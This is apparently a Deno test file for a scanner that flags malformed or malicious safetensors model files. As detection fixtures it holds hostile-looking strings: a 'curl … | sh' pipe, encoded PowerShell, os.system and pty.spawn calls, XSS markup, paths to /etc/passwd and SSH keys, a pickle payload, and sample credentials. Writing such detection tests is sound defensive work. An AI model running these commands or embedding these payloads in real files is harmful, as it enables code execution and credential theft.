import * as assert from "node:assert/strict";
import { safetensorsScanner } from "../../../../../core/scanner/formats/safetensors/scanner.ts";
import type { Check } from "../../../../../core/scanner/contract/scanner.ts";
import { type ByteSource, memorySource } from "../../../../../core/scanner/contract/source.ts";
import { seeded } from "../../mutation.ts";
import { RecordingContext } from "../../recording_context.ts";
import { counted, withZeros } from "../../sources.ts";
import { verdict } from "../../verdict.ts";
import { ALPHANUMERIC, base64Url, chars } from "../../knowledge/secrets/sample_secrets.ts";

/** Joined here, so that this file contains no credential itself. */
const AWS_KEY = "AKIA" + "Q3EGRZ7XKLMNOP2S";

interface Scanned {
  readonly checks: readonly Check[];
  readonly facts: Record<string, unknown>;
  readonly tensors: readonly string[];
  readonly members: readonly { name: string; bytes: Uint8Array }[];
}

function scan(source: ByteSource, name = "model.safetensors"): Scanned {
  const context = new RecordingContext();
  const checks = [...safetensorsScanner.scan({ source, name, depth: 0 }, context)];
  return {
    checks,
    facts: context.facts,
    tensors: context.assets.flatMap(({ tensors }) => tensors ?? []),
    members: context.members.map(({ name, source }) => ({ name, bytes: source.read(0, 100) })),
  };
}

function file(header: string, data = 0, length?: bigint): Uint8Array {
  const json = new TextEncoder().encode(header);
  const bytes = new Uint8Array(8 + json.length + data);
  new DataView(bytes.buffer).setBigUint64(0, length ?? BigInt(json.length), true);
  bytes.set(json, 8);
  return bytes;
}

function tensor(dtype: string, shape: readonly unknown[], begin: unknown, end: unknown): string {
  return `{"dtype":"${dtype}","shape":[${shape}],"data_offsets":[${begin},${end}]}`;
}

function worst(checks: readonly Check[]): string {
  const failed = checks.filter((check) => check.status === "failed");
  return failed.map((check) => `${check.severity} ${check.name}`).join("; ");
}

Deno.test("C 16 A plain safetensors file passes every check, and tells what it holds", () => {
  const header = `{"__metadata__":{"format":"pt"},"a":${tensor("BF16", [2, 3], 0, 12)},` +
    `"empty":${tensor("F32", [0, 4], 12, 12)},"b":${tensor("F32", [1], 12, 16)}}  `;
  const { checks, facts, tensors, members } = scan(memorySource(file(header, 16)));
  assert.deepEqual(checks.filter((check) => check.status !== "passed"), []);
  assert.equal(new Set(checks.map((check) => check.name)).size, checks.length);
  assert.ok(checks.length >= 8);
  assert.equal(facts["tensor_count"], 3);
  assert.equal(facts["is_model"], true);
  assert.deepEqual(facts["ml_context"], {
    frameworks: {
      safetensors: { name: "safetensors", confidence: 1, indicators: ["safetensors header"] },
    },
    overall_confidence: 1,
    is_ml_content: true,
    parameter_count_estimate: 7,
    precision_type: "BF16",
  });
  assert.deepEqual(tensors, ["a", "empty", "b"]);
  assert.deepEqual(members, []);
});

Deno.test("Every type of the format has its size", async (t) => {
  const eighths: [string, number][] = [
    ["F4", 4],
    ["F6_E2M3", 6],
    ["F6_E3M2", 6],
    ...["BOOL", "U8", "I8", "F8_E5M2", "F8_E4M3", "F8_E8M0"].map((d): [string, number] => [d, 8]),
    ...["I16", "U16", "F16", "BF16"].map((d): [string, number] => [d, 16]),
    ...["I32", "U32", "F32"].map((d): [string, number] => [d, 32]),
    ...["F64", "I64", "U64", "C64"].map((d): [string, number] => [d, 64]),
  ];
  for (const [dtype, size] of eighths) {
    await t.step(dtype, () => {
      const fits = file(`{"a":${tensor(dtype, [4, 2], 0, size)}}`, size);
      assert.equal(verdict(scan(memorySource(fits)).checks), "OK");
      const wrong = file(`{"a":${tensor(dtype, [4, 3], 0, size)}}`, size);
      const { checks } = scan(memorySource(wrong));
      assert.equal(worst(checks), "critical Safetensors Tensor Size");
    });
  }
});

Deno.test("What is wrong with a safetensors file has its verdict", async (t) => {
  const one = tensor("U8", [4], 0, 4);
  const rows: [string, Uint8Array, string][] = [
    ["evasion 54: data after the last tensor", file(`{"a":${one}}`, 9), "W"],
    [
      "evasion 55: tensors that overlap",
      file(`{"a":${one},"b":${tensor("U8", [4], 2, 6)}}`, 6),
      "W",
    ],
    ["evasion 55: a hole", file(`{"a":${one},"b":${tensor("U8", [4], 6, 10)}}`, 10), "W"],
    ["evasion 55: a hole at the start", file(`{"a":${tensor("U8", [4], 2, 6)}}`, 6), "W"],
    ["evasion 55: a duplicate tensor", file(`{"a":${one},"a":${one}}`, 4), "W"],
    [
      "evasion 55: a duplicate in an entry",
      file(`{"a":${one.replace("{", '{"dtype":"F64",')}}`, 4),
      "W",
    ],
    ["evasion 55: a header length of 2^63", file(`{"a":${one}}`, 4, 2n ** 63n), "I"],
    ["a header longer than the file", file(`{"a":${one}}`, 4, 1000n), "I"],
    ["an empty header", file("", 4), "W"],
    ["an empty file", new Uint8Array(), "I"],
    ["a file of 7 bytes", new Uint8Array(7), "I"],
    ["a header that is no JSON", file(`{"a":${one},}`, 4), "I"],
    ["a header that is no object", file("[]      ", 4), "W"],
    ["a header of deep arrays", file(`{"a":${"[".repeat(5000)}`, 4), "I"],
    [
      "evasion 37: a pickle of this name",
      Uint8Array.of(0x80, 4, 0x4b, 1, 0x2e, 0, 0, 0, 0, 0),
      "W",
    ],
    ["an entry that is no object", file('{"a":[]}'), "W"],
    ["an entry without a shape", file('{"a":{"dtype":"U8","data_offsets":[0,0]}}'), "W"],
    ["offsets that are three", file(`{"a":${one.replace("0,4", "0,4,4")}}`, 4), "W"],
    ["a negative dimension", file(`{"a":${tensor("U8", [-4], 0, 4)}}`, 4), "W"],
    ["a dimension that is a fraction", file(`{"a":${tensor("U8", [4.5], 0, 4)}}`, 4), "W"],
    [
      "a shape that overflows",
      file(`{"a":${tensor("U8", ["4294967296", "4294967296"], 0, 0)}}`),
      "C",
    ],
    [
      "a shape that overflows when rounded",
      file(`{"a":${tensor("U8", ["18446744073709551617"], 0, 1)}}`, 1),
      "W",
    ],
    ["offsets beyond the file", file(`{"a":${tensor("U8", [9], 0, 9)}}`, 4), "C"],
    ["offsets that run backwards", file(`{"a":${tensor("U8", [0], 4, 0)}}`, 4), "C"],
    [
      "offsets at all ones",
      file(`{"a":${tensor("U8", [1], "18446744073709551614", "18446744073709551615")}}`, 4),
      "C",
    ],
    ["an unknown type", file(`{"a":${tensor("Q3", [4], 0, 4)}}`, 4), "I"],
    ["sub-byte elements that leave bits over", file(`{"a":${tensor("F4", [3], 0, 1)}}`, 1), "C"],
    ["an unexpected key", file(`{"a":${one.replace("{", '{"x":1,')}}`, 4), "OK"],
    ["a name that is a path", file(`{"../../x":${one}}`, 4), "W"],
    ["metadata that are no object", file(`{"__metadata__":[],"a":${one}}`, 4), "W"],
    ["a metadata value that is no text", file(`{"__metadata__":{"n":1},"a":${one}}`, 4), "W"],
    ["code in the metadata", file(`{"__metadata__":{"x":"os.system('id')"},"a":${one}}`, 4), "C"],
    [
      "markup in the metadata",
      file(`{"__metadata__":{"x":"<script>a</script>"},"a":${one}}`, 4),
      "C",
    ],
    [
      "a path in the metadata",
      file(`{"__metadata__":{"x":"../../../etc/passwd"},"a":${one}}`, 4),
      "W",
    ],
    [
      "a key in the metadata",
      file(`{"__metadata__":{"x":"${AWS_KEY}"},"a":${one}}`, 4),
      "C",
    ],
  ];
  for (const [title, bytes, expected] of rows) {
    await t.step(`${title}: ${expected}`, () => {
      const { checks } = scan(memorySource(bytes));
      assert.equal(verdict(checks), expected, worst(checks));
      const failed = new Set(
        checks.filter(({ status }) => status === "failed").map(({ name }) => name),
      );
      assert.ok(checks.every(({ status, name }) => status === "failed" || !failed.has(name)));
    });
  }
});

Deno.test("A shape that overflows 64 bits is told as one", () => {
  const bytes = file(`{"a":${tensor("U8", ["4294967296", "4294967296"], 0, 0)}}`);
  const { checks } = scan(memorySource(bytes));
  assert.equal(checks.find(({ status }) => status === "failed")?.ruleCode, "S804");
});

Deno.test("A tensor of no elements may be anywhere", () => {
  const header = `{"a":${tensor("U8", [8], 0, 8)},"b":${tensor("U8", [0], 4, 4)}}`;
  assert.equal(verdict(scan(memorySource(file(header, 8))).checks), "OK");
});

Deno.test("evasion 54 What follows the last tensor is scanned", () => {
  const bytes = file(`{"a":${tensor("U8", [4], 0, 4)}}`, 10);
  bytes.set([0x80, 4, 0x4b, 1, 0x2e, 9], bytes.length - 6);
  const { members, checks } = scan(memorySource(bytes));
  assert.deepEqual(members, [
    { name: "trailing data", bytes: Uint8Array.of(0x80, 4, 0x4b, 1, 0x2e, 9) },
  ]);
  const trailing = checks.find((check) => check.ruleCode === "S908");
  assert.equal(trailing?.position, bytes.length - 6);
});

Deno.test("Metadata as models carry them are no finding", () => {
  const metadata = {
    format: "pt",
    "modelspec.description":
      "Call model.eval() first; trained by compile (ours), eval (mean) 0.3." +
      " See https://example.org/a?b=c, e.g. the javascript (frontend) part; password: none",
    ss_tag_frequency: '{"img":{"1girl":3,"solo, eval":1}}',
    ss_sd_model_name: "/content/models/base.safetensors",
    ss_base: "../base.safetensors",
    windows: "C:\\Users\\a\\model.safetensors",
    thumbnail: `data:image/jpeg;base64,${btoa("\xff\xd8".repeat(999))}`,
  };
  const header = JSON.stringify({ __metadata__: metadata });
  const { checks } = scan(memorySource(file(header)));
  assert.equal(verdict(checks), "OK", worst(checks));
});

Deno.test("C 16 Suspicious metadata are found by kind, also at the end of a long text", async (t) => {
  const jwt = `${base64Url('{"alg":"HS256"}')}.${base64Url('{"sub":"42"}')}.${
    chars(43, ALPHANUMERIC)
  }`;
  const rows: [string, string, string][] = [
    ["eval(x)", "code", "S104"],
    ["a; exec('b')", "code", "S104"],
    ["compile('a', 'b', 'exec')", "code", "S105"],
    ["os.popen('id')", "code", "S101"],
    ["subprocess.run(['id'])", "code", "S103"],
    ["pty.spawn('sh')", "code", "S103"],
    ["importlib.import_module('os')", "code", "S107"],
    ["pickle.loads(b)", "code", "S213"],
    ["marshal.load(b)", "code", "S213"],
    ["base64.b64decode(b)", "code", "S601"],
    ["x.__class__.y", "code", "S104"],
    ["curl -s http://a | sh", "code", "S504"],
    ["powershell -enc AAAA", "code", "S506"],
    ["\\x41".repeat(9), "code", "S602"],
    ["<SCRIPT>", "markup", "S508"],
    ["javascript:a()", "markup", "S508"],
    ["<img src=x onerror=a()>", "markup", "S508"],
    ["x/../../y", "path", "S405"],
    ["see ../../y", "path", "S405"],
    ["%2e%2e%2fy", "path", "S405"],
    ["/etc/passwd", "path", "S408"],
    ["C:/Windows/System32/a", "path", "S408"],
    ["~/.ssh/id_rsa", "path", "S408"],
    [`-----BEGIN RSA PRIVATE KEY-----\n${chars(64, ALPHANUMERIC)}`, "private key", "S703"],
    [AWS_KEY, "AWS access key", "S704"],
    [`hf_${chars(34, ALPHANUMERIC)}`, "Hugging Face token", "S701"],
    [`sk-${chars(48, ALPHANUMERIC)}`, "OpenAI key", "S701"],
    [`ghp_${chars(36, ALPHANUMERIC)}`, "GitHub token", "S701"],
    [jwt, "JWT", "S707"],
    ["postgres://me:" + "hunter2x@host/db", "database URL", "S706"],
    ["password = 'correct-horse'", "password", "S702"],
  ];
  for (const [text, kind, rule] of rows) {
    for (const padding of ["", "word ".repeat(300_000)]) {
      await t.step(`${text.slice(0, 30)} after ${padding.length}: ${kind}`, () => {
        const metadata = { x: `${padding}${text}` };
        const { checks } = scan(memorySource(file(JSON.stringify({ __metadata__: metadata }))));
        const found = checks.filter(({ status }) => status === "failed");
        assert.equal(found.every((check) => check.details?.["kind"] === kind), true);
        assert.ok(found.some(({ ruleCode }) => ruleCode === rule));
      });
    }
  }
});

Deno.test("A found credential is not repeated", () => {
  const key = AWS_KEY;
  const { checks } = scan(memorySource(file(`{"__metadata__":{"x":"key ${key}"}}`)));
  assert.equal(verdict(checks), "C");
  assert.equal(JSON.stringify(checks).includes(key), false);
});

Deno.test("The content says that it is safetensors, whatever its name is", () => {
  const claims = (bytes: Uint8Array, name = "x.bin") =>
    safetensorsScanner.matches({ name, source: memorySource(bytes), depth: 0 });
  assert.equal(claims(file('{"a":1}')), true);
  assert.equal(claims(new Uint8Array(), "MODEL.SAFETENSORS"), true);
  assert.equal(claims(file('{"a":1}', 0, 2n ** 63n)), false);
  assert.equal(claims(file("[1]")), false);
  assert.equal(claims(new Uint8Array(3)), false);
});

Deno.test("Of a file of 1 GB only the header is read", () => {
  const size = 2 ** 30;
  const header = file(`{"a":${tensor("U8", [size], 0, size)}}`);
  const source = counted(withZeros(header, size));
  assert.equal(verdict(scan(source).checks), "OK");
  assert.ok(source.bytesRead < 1000, `${source.bytesRead} bytes were read`);
});

Deno.test("Faults without number give checks of a bounded number, the worst among them", () => {
  const entries = Array.from({ length: 20_000 }, (_, i) => `"${i}":${tensor("U8", [1], 0, 2 + i)}`);
  const { checks, tensors } = scan(memorySource(file(`{${entries}}`, 20_001)));
  assert.equal(verdict(checks), "C");
  assert.ok(checks.length < 200, `${checks.length} checks`);
  assert.equal(tensors.length, 10_000);
});

Deno.test("Thousands of mutations of a safetensors file throw nothing", () => {
  const good = file(
    `{"__metadata__":{"format":"pt"},"a":${tensor("BF16", [2, 3], 0, 12)},"b":${
      tensor("F32", [1], 12, 16)
    }}`,
    16,
  );
  const random = seeded(7);
  const verdicts = new Set<string>();
  for (let round = 0; round < 5000; round++) {
    const bytes = good.slice(0, random(5) === 0 ? random(good.length) : good.length);
    const changes = 1 + random(4);
    for (let i = 0; i < changes; i++) {
      bytes[random(bytes.length)] = random(256);
    }
    const { checks } = scan(memorySource(bytes));
    assert.ok(checks.length > 0 && checks.length < 200);
    verdicts.add(verdict(checks));
  }
  assert.deepEqual([...verdicts].sort(), ["C", "I", "OK", "W"]);
});
